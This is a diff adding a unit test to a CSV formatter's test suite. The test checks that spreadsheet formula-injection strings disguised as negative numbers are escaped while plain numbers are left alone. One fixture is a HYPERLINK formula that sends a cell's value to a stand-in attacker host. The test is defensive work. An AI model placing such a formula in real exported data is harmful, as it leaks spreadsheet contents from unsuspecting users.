@@ -72,4 +72,19 @@ describe('formatCsv', () => {
     const text = formatCsv([['=HYPERLINK("x")', '+1+1', '@SUM(A1)', '-2', '-x']]);
     expect(fields(text)[0]).toEqual(['\'=HYPERLINK("x")', "'+1+1", "'@SUM(A1)", '-2', "'-x"]);
   });
+
+  it('defuses a formula that starts like a negative number; only whole numbers and plain decimals pass', () => {
+    const hostile = [
+      '-1+HYPERLINK("https://evil.example/?"&A1,"Click")',
+      '-1+1',
+      '-2*3',
+      '-1-1',
+      '-1,5',
+      '-1e3',
+      '-0x1',
+    ];
+    const plain = ['-1', '-42', '-3.5', '-0.25', '7', '12.50', '0'];
+    const read = fields(formatCsv([[...hostile, ...plain]]))[0];
+    expect(read).toEqual([...hostile.map((h) => `'${h}`), ...plain]);
+  });
 });
